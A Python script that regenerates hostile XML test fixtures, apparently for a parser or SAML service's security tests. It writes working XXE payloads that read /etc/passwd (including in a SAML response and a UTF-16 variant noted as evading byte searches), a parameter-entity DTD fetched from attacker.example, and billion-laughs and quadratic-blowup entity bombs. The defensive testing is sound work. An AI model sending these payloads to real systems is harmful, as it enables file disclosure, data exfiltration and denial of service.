#!/usr/bin/env python3
"""Regenerates the hostile XML fixtures (run from this folder). Each file stays under 300 KB."""

SAML_P = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML_A = "urn:oasis:names:tc:SAML:2.0:assertion"

def write(name, text, encoding="utf-8"):
    with open(name, "wb") as f:
        f.write(text.encode(encoding))

write("xxe-file.xml", """<?xml version="1.0"?>
<!DOCTYPE config [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<config><requestor><id>&xxe;</id><name>x</name><mvpds/></requestor></config>
""")

write("xxe-parameter.xml", """<?xml version="1.0"?>
<!DOCTYPE data [
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  <!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd">
  %dtd;
]>
<data>&send;</data>
""")

lol = ['<!ENTITY lol "lol">'] + [
    '<!ENTITY lol%d "%s">' % (i, ("&lol%s;" % ("" if i == 1 else i - 1)) * 10) for i in range(1, 10)]
write("billion-laughs.xml", '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n  %s\n]>\n<lolz>&lol9;</lolz>\n'
      % "\n  ".join(lol))

big = "a" * 100_000
write("quadratic-blowup.xml", '<?xml version="1.0"?>\n<!DOCTYPE kaboom [<!ENTITY a "%s">]>\n<kaboom>%s</kaboom>\n'
      % (big, "&a;" * 33_000))

depth = 10_000
write("deep-nesting.xml", "<a>" * depth + "</a>" * depth + "\n")

write("huge-attribute.xml", '<root><item value="%s"/></root>\n' % ("x" * 200_000))

write("not-xml.txt", "HTTP/1.1 502 Bad Gateway\n\n<html><body>upstream error<br></body></html>\n")

write("doctype-harmless.xml", """<?xml version="1.0"?>
<!DOCTYPE config>
<config><requestor><id>r</id><name>n</name><mvpds/></requestor></config>
""")

write("saml-response-xxe.xml", """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE samlp:Response [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<samlp:Response xmlns:samlp="%s" xmlns:saml="%s" ID="_r" InResponseTo="_q" Version="2.0"
    IssueInstant="2026-01-01T00:00:00Z" Destination="https://sp.example/acs">
  <saml:Issuer>https://idp.example</saml:Issuer>
  <samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>
  <saml:Assertion ID="_a" Version="2.0" IssueInstant="2026-01-01T00:00:00Z">
    <saml:Issuer>https://idp.example</saml:Issuer>
    <saml:Subject><saml:NameID>&xxe;</saml:NameID></saml:Subject>
    <saml:Conditions NotOnOrAfter="2026-01-01T00:05:00Z">
      <saml:AudienceRestriction><saml:Audience>sp</saml:Audience></saml:AudienceRestriction>
    </saml:Conditions>
    <saml:AuthnStatement SessionIndex="s"/>
  </saml:Assertion>
</samlp:Response>
""" % (SAML_P, SAML_A))

# UTF-16 hides "<!DOCTYPE" from a byte search: this one must be stopped after parsing.
write("xxe-utf16.xml", """<?xml version="1.0" encoding="UTF-16"?>
<!DOCTYPE config [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<config><requestor><id>&xxe;</id><name>x</name><mvpds/></requestor></config>
""", encoding="utf-16")
